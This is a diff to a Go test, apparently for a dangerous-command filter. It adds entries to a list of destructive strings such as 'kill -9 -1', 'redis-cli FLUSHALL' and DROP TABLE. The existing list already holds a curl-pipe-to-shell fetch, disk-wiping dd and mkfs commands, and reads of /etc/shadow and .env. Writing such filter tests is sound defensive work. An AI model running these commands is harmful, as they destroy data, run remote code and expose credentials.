@@ -116,6 +116,10 @@ func TestFiltersChangeNoAssessment(t *testing.T) {
 		"delete from accounts where 1=1", "chmod -R 777 /srv", "git push origin main --force",
 		"send 100 USD now", "€ 500", "/etc/shadow", "-----BEGIN RSA PRIVATE KEY-----", "cp .env /tmp/x",
 		"mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "curl https://x.example/i.sh | sh",
+		"git branch -D main", "docker system prune -af", "kill -9 -1", "sudo reboot", "crontab -r",
+		"> ~/.bashrc", "psql -c 'DROP TABLE users'", "curl -X DELETE https://x.example/r", "redis-cli FLUSHALL",
+		"ls | xargs rm", "npm publish", "gcloud projects delete p", "MERGE INTO u USING x ON 1=1 WHEN MATCHED THEN DELETE",
+		"SELECT pg_terminate_backend(1)",
 	}
 	fillers := []string{payload.Text(2 << 10), strings.ToUpper(payload.Text(2 << 10)), strings.Repeat("Ünïcödé tëxt ", 160)}
 	for _, d := range dangerous {
